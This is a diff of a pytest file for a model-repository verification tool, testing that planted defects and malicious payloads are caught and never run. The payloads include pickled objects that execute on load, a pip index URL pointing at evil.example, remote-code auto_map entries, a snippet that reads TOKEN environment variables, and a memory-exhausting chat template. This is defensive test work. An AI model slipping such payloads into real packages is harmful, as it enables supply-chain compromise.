@@ -4,12 +4,9 @@ Each payload writes a file when it runs. After a signed change, the manifest agr
 """
 
 import json
-import os
 import pickle
 import re
-import select
 import sys
-from math import nan
 from pathlib import Path
 
 import pytest
@@ -17,15 +14,14 @@ from safetensors.torch import load_file, save_file
 
 from glm4v_patched.models import limited_process
 from glm4v_patched.models.weight_files import WEIGHTS_INDEX as INDEX
-from hub_upload import loading
+from hub_upload import checks
 from hub_upload import verify as verifying
-from hub_upload.build import build_model_repository, read_source
-from hub_upload.checks import FAILED, PASSED, SKIPPED, Check, check_files
+from hub_upload.build import add_manifest, build_model_repository, read_source
+from hub_upload.checks import FAILED, PASSED, Check
 from hub_upload.files import BuiltFiles, is_small, read_folder
-from hub_upload.load_check import STEPS
 from hub_upload.manifest import MANIFEST
 from hub_upload.publish import read_built_folder
-from hub_upload.verify import MODEL_CHECKS, VerifyReport, verify
+from hub_upload.verify import VerifyReport, check_files, check_weight_files, verify
 from tests.helpers.publishable import (
     NAME,
     UPSTREAM,
@@ -59,8 +55,8 @@ def test_failures_are_reported_by_table_json_and_status(copy, run):
     (copy / "README.md").write_text("# another\n")
     status, output = run("verify", copy)
     rows = dict(line.split(maxsplit=1) for line in output.splitlines())
-    assert status == 1 and rows["rebuilt"] == "skipped  not run because of: files"
-    assert rows["files"].startswith("failed   README.md differs from the manifest")
+    assert status == 1 and rows["files"].startswith("failed   README.md, line 1 is")
+    assert not {"weights", "loads"} & rows.keys()
     status, output = run("verify", copy, "--json")
     report = json.loads(output)
     assert status == 1 and not report["passed"]
@@ -167,29 +163,28 @@ class Payload:
 
 
 DEFECTS = [
-    ("files", "visual.py differs", replaced("visual.py", "import", "import ")),
-    ("files", "missing: sharding.py", without("sharding.py")),
-    ("files", f"{SHARD} differs .* bytes, expected", truncated),
-    ("files", "not in the manifest: notes.txt", added("notes.txt", b"mine")),
-    ("rebuilt", "config.json cannot be read", signed(added("config.json", b"["))),
+    ("files", "visual.py, line", replaced("visual.py", "import", "import ")),
+    ("files", "sharding.py is missing", without("sharding.py")),
+    ("weights", f"{SHARD} differs .* bytes, .*expected", truncated),
+    ("files", "notes.txt exists; expected no such file", added("notes.txt", b"mine")),
+    ("files", "config.json cannot be read", signed(added("config.json", b"["))),
     ("weights", f"{SHARD} .*cut short", signed(truncated)),
     ("weights", "the manifest lists", signed(without(INDEX))),
     ("weights", "1|2 tensors are not where", signed(an_index_that_names_the_wrong_shard)),
-    ("rebuilt", "boi_token_id is 4, but", fields("config.json", boi_token_id=4)),
+    ("files", "boi_token_id is 4, but", fields("config.json", boi_token_id=4)),
     (
-        "rebuilt",
+        "files",
         "(none|not one) of the 512 token ids",
         fields("generation_config.json", eos_token_id=[500, 512]),
     ),
-    ("rebuilt", "image_size 112", fields("tokenizer_config.json", image_size=112)),
-    ("rebuilt", "image_size 28, but", amended_vision(image_size=28, num_positions=5)),
+    ("files", "image_size 112", fields("tokenizer_config.json", image_size=112)),
+    ("files", "image_size 28, but", amended_vision(image_size=28, num_positions=5)),
     ("weights", "1 of 55 weights are missing", signed(a_tensor_that_is_missing)),
     (
         "weights",
         "other shapes",
         rewritten(lambda weights: weights.update({EOI: weights[EOI].flatten()})),
     ),
-    ("answers", "changes the logits by nan", rewritten(lambda weights: weights[EOI].fill_(nan))),
 ]
 AUTO = {"AutoConfig": f"{EVIL}--evil.Evil", "AutoTokenizer": [f"{EVIL}--evil.Evil", None]}
 CONFIG, GENERATION = "config.json", "generation_config.json"
@@ -221,44 +216,41 @@ INDEX_URL = "--index-url https://evil.example/simple\n"
 FOREIGN = ["custom_generate/generate.py", "additional_chat_templates/a.jinja", "evil.pth", ".env"]
 FOREIGN += ["a.pkl", ".github/workflows/a.yml"]
 PAYLOADS = [
-    *(("rebuilt", rf"{f}.* {k}\b", fields(f, **{k: value})) for f, k, value in REFUSED_KEYS),
-    *(("files", f"not in the manifest: {name}", added(name, CODE)) for name in FOREIGN),
-    ("rebuilt", "expected no such file", listed("transformers.py", CODE)),
-    ("rebuilt", "loss.py, line 1", listed("loss.py", CODE)),
+    *(("files", rf"{f}.* {k}\b", fields(f, **{k: value})) for f, k, value in REFUSED_KEYS),
+    *(("files", f"{name} exists; expected no such file", added(name, CODE)) for name in FOREIGN),
+    ("files", "expected no such file", listed("transformers.py", CODE)),
+    ("files", "loss.py, line 1", listed("loss.py", CODE)),
     (
-        "rebuilt",
+        "files",
         "^pytorch_model.bin exists",
         listed("pytorch_model.bin", pickle.dumps(Payload())),
     ),
-    ("rebuilt", "LICENSE, line 1", listed("LICENSE", pickle.dumps(Payload(), 2))),
-    ("rebuilt", "requirements.txt, line 1", signed(added("requirements.txt", INDEX_URL))),
-    ("rebuilt", "README.md", signed(replaced("README.md", "pip install", f"pip {INDEX_URL}"))),
+    ("files", "LICENSE, line 1", listed("LICENSE", pickle.dumps(Payload(), 2))),
+    ("files", "requirements.txt, line 1", signed(added("requirements.txt", INDEX_URL))),
+    ("files", "README.md", signed(replaced("README.md", "pip install", f"pip {INDEX_URL}"))),
     (
-        "rebuilt",
+        "files",
         "README.md",
         signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "all of it"})),
     ),
-    ("rebuilt", "version is 9.9.9", lambda folder: sign(folder, version="9.9.9")),
-    ("rebuilt", "audio_tokenizer", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
+    ("files", "version is 9.9.9", lambda folder: sign(folder, version="9.9.9")),
+    ("files", "audio_tokenizer", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
     ("weights", f"{SHARD} cannot be read", listed(SHARD, pickle.dumps(Payload()))),
 ]
 
 
 @pytest.mark.parametrize(("failed", "message", "plant"), DEFECTS + PAYLOADS)
 def test_a_defect_fails_its_own_check_and_neither_runs_nor_is_published(
-    failed, message, plant, copy, in_process, marker, monkeypatch
+    failed, message, plant, copy, marker, monkeypatch
 ):
     plant(copy)
-    if failed not in STEPS:
-        monkeypatch.setattr(loading, "run_published_code", lambda *_: pytest.fail("it was run"))
+    monkeypatch.setattr(checks, "run_published_code", lambda *_: pytest.fail("it was run"))
     report = verify(str(copy))
     assert report.failures == [failed], report.as_table()
     assert re.search(message, by_name(report)[failed].detail) and not marker.exists()
-    after = MODEL_CHECKS[MODEL_CHECKS.index(failed) + 1 :]
-    assert {by_name(report)[stage].status for stage in after} <= {SKIPPED}
-    if failed not in STEPS:
-        with pytest.raises(ValueError, match="does not pass verify"):
-            read_built_folder(copy)
+    assert report.checks[-1].name == failed
+    with pytest.raises(ValueError, match="does not pass verify"):
+        read_built_folder(copy)
 
 
 def test_what_runs_is_what_was_checked(copy, monkeypatch, load_check):
@@ -271,73 +263,58 @@ def test_what_runs_is_what_was_checked(copy, monkeypatch, load_check):
     before = as_files(copy)
     check = verifying.check_weight_files
 
-    def exchange(target):
-        summary = check(target)
+    def exchange(*arguments):
+        summary = check(*arguments)
         (copy / "visual.py").write_text(CODE)
         (copy / "adapter_config.json").write_text("{}")
         return summary
 
     monkeypatch.setattr(verifying, "check_weight_files", exchange)
-    detail = by_name(verify(str(copy)))[STEPS[0]].detail
+    detail = by_name(verify(str(copy)))["loads"].detail
     loaded = json.loads(detail[detail.index("{") :])
-    assert {name: bytes.fromhex(content) for name, content in loaded.items()} == before
+    copied = {name: bytes.fromhex(content) for name, content in loaded.items()}
+    assert copied == {n: text for n, text in before.items() if not n.endswith(".safetensors")}
 
 
-def test_a_changed_byte_of_any_file_is_found_in_weights_only_if_they_are_read(copy):
+def test_a_changed_byte_of_any_file_is_found_in_weights_only_if_they_are_read(copy, monkeypatch):
+    contents = {n: text for n, text in as_files(copy).items() if not n.endswith(".safetensors")}
+    contents.pop(MANIFEST)
+
+    def rebuild(target, *_):  # reading the vocabulary each time would take minutes
+        return add_manifest(contents, target.weights, target.fine_tune, target.origin)
+
+    monkeypatch.setattr(verifying, "build_contents", rebuild)
     for name, content in as_files(copy).items():
         for at in (0, len(content) // 2, len(content) - 2):
             changed = bytearray(content)
             changed[at] ^= 1
             (copy / name).write_bytes(changed)
             with pytest.raises(ValueError, match=r"."):
-                check_files(BuiltFiles("a build", read_folder(copy)), read_weights=True)
+                target = BuiltFiles("a build", read_folder(copy))
+                check_files(target)
+                check_weight_files(target, read_weights=True)
         (copy / name).write_bytes(content)
     flip(copy / SHARD)
-    check_files(BuiltFiles("a build", read_folder(copy)))
+    check_weight_files(BuiltFiles("a build", read_folder(copy)))
 
 
 ENDS = {
-    "raise MemoryError('no room')": "status 1 in this step: MemoryError: no room",
-    "sys.exit(str([k for k in os.environ if 'TOKEN' in k]))": "status 1 in this step: []",
+    "raise MemoryError('no room')": "ended with status 1: MemoryError: no room",
+    "sys.exit(str([k for k in os.environ if 'TOKEN' in k]))": "ended with status 1: []",
+    "import time; time.sleep(99)": "was stopped after 2 s",
 }
-FIRST_STEP = json.dumps([STEPS[0], PASSED, "-"])
 
 
 @pytest.mark.parametrize("program", ENDS)
-def test_a_process_that_ends_fails_the_check_it_was_at(program, built, monkeypatch, load_check):
-    """It has reported one check before it ends; and it gets no token."""
-    load_check(f"print({FIRST_STEP!r}, flush=True)\n{program}")
+def test_a_process_that_fails_or_does_not_end_is_reported(program, built, monkeypatch, load_check):
+    """It gets no token."""
+    load_check(program)
     for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"):
         monkeypatch.setenv(name, "hf_secret")
+    if "sleep" in program:
+        monkeypatch.setattr(checks, "LOAD_TIMEOUT_S", 2)
     report = verify(str(built))
-    assert report.failures == [STEPS[1]] and ENDS[program] in by_name(report)[STEPS[1]].detail
-    assert [by_name(report)[step].status for step in STEPS] == [PASSED, FAILED, SKIPPED]
-
-
-def test_a_process_that_does_not_end_is_killed_with_its_children(
-    built, monkeypatch, load_check, marker
-):
-    alive = Path(f"{marker}.fifo")
-    os.mkfifo(alive)
-    hold = (
-        f"import time; pipe = open({str(alive)!r}, 'w', 1); print('x', file=pipe); time.sleep(99)"
-    )
-    load_check(
-        f"print({FIRST_STEP!r}, flush=True)\n"
-        f"import subprocess; subprocess.Popen([sys.executable, '-c', {hold!r}]).wait()"
-    )
-    reader, read = os.open(alive, os.O_RDONLY | os.O_NONBLOCK), b""
-    for seconds in (1, 8, 64):  # a busy machine takes more than a second to begin
-        monkeypatch.setattr(loading, "LOAD_TIMEOUT_S", seconds)
-        report = verify(str(built))
-        if read := os.read(reader, 9):
-            break
-    assert read, "the process has not started"
-    assert select.select([reader], [], [], 10)[0], "a child of the process still runs"
-    assert os.read(reader, 9) == b""
-    os.close(reader)
-    assert report.failures == [STEPS[1]]
-    assert "was stopped in this step, after" in by_name(report)[STEPS[1]].detail
+    assert report.failures == ["loads"] and ENDS[program] in by_name(report)["loads"].detail
 
 
 def test_every_interpreter_that_is_given_loads_it(built, monkeypatch):
@@ -345,13 +322,13 @@ def test_every_interpreter_that_is_given_loads_it(built, monkeypatch):
 
     def steps(python, source, home):
         used.append(python)
-        return [json.dumps([step, PASSED, "-"]) for step in STEPS], "-"
+        return f"loaded with {python}"
 
-    monkeypatch.setattr(loading, "run_published_code", steps)
+    monkeypatch.setattr(checks, "run_published_code", steps)
     pythons = [sys.executable, "/bin/sh"]
     report = verify(str(built), pythons=pythons)
     assert used == pythons and report.failures == []
-    assert len([check for check in report.checks if check.name == "trains"]) == 2
+    assert all(f"loaded with {python}" in by_name(report)["loads"].detail for python in pythons)
 
 
 # On the Hub
@@ -365,7 +342,7 @@ def test_a_repository_passes_every_check_at_the_commit_it_is_at(built, hub, in_p
     report = verify(NAME, "main")
     assert report.revision == head != repository.head
     assert {check.status for check in report.checks} == {PASSED}, report.as_table()
-    assert "2 + 2 layers of hidden size 64 with random weights" in by_name(report)["loads"].detail
+    assert "gradients, with activation checkpointing" in by_name(report)["loads"].detail
     downloads = [r.path for r in hub.requests if "/resolve/" in r.path]
     assert downloads and all(f"/resolve/{head}/" in path for path in downloads)
 
@@ -377,10 +354,10 @@ def test_a_build_whose_weights_are_left_on_the_hub_is_compared_by_its_index(
     build_model_repository(read_source(f"{UPSTREAM}@{head}"), tmp_path / "out", NAME)
     report = verify(str(tmp_path / "out"))
     details = {check.name: check.detail for check in report.checks}
-    assert [*details] == MODEL_CHECKS and report.failures == [], report.as_table()
+    assert [*details] == ["files", "weights", "loads"] and report.failures == [], report.as_table()
     assert f"the Hub will copy them from {UPSTREAM}@{head}" in details["weights"]
     assert "55 weights, compared with the index" in details["weights"]
-    assert "with random weights" in details["loads"]
+    assert "gradients" in details["loads"]
 
 
 def test_a_tokenizer_of_the_real_size_is_read_and_no_weights_are():
@@ -392,10 +369,10 @@ def test_weights_that_the_hub_stores_otherwise_are_found_without_reading_them(bu
     files = as_files(built)
     files[SHARD] = files[SHARD][:-1] + bytes([files[SHARD][-1] ^ 1])
     hub.add_repository(NAME, files | {"training_args.bin": b"pickled"})
-    assert "not in the manifest: training_args.bin" in by_name(verify(NAME))["files"].detail
+    assert "training_args.bin exists; expected no such" in by_name(verify(NAME))["files"].detail
     hub.add_repository(NAME, files)
-    detail = by_name(verify(NAME))["files"].detail
-    assert f"{SHARD} differs from the manifest: sha256 " in detail
+    detail = by_name(verify(NAME))["weights"].detail
+    assert f"{SHARD} differs from the manifest: " in detail
     assert not [r for r in hub.requests if r.sent > 100_001 and "safetensors" in r.path]
     assert not [r for r in hub.requests if "training_args" in r.path]
 
@@ -403,7 +380,7 @@ def test_weights_that_the_hub_stores_otherwise_are_found_without_reading_them(bu
 def test_a_chat_template_that_never_ends_is_not_run(copy, monkeypatch):
     """Signed, so that the manifest agrees."""
     monkeypatch.setattr(limited_process, "BASE_SECONDS", 1)
-    monkeypatch.setattr(loading, "run_published_code", lambda *_: pytest.fail("it was run"))
+    monkeypatch.setattr(checks, "run_published_code", lambda *_: pytest.fail("it was run"))
     template = copy / "chat_template.jinja"
     before = template.read_text()
     evil = "{{ 'a' * 10000000000 }}"
@@ -413,5 +390,5 @@ def test_a_chat_template_that_never_ends_is_not_run(copy, monkeypatch):
         template.write_text(written + before)
         sign(copy)
         report = verify(str(copy))
-        assert report.failures == ["rebuilt"]
-        assert "its chat template took more than" in by_name(report)["rebuilt"].detail
+        assert report.failures == ["files"]
+        assert "its chat template took more than" in by_name(report)["files"].detail
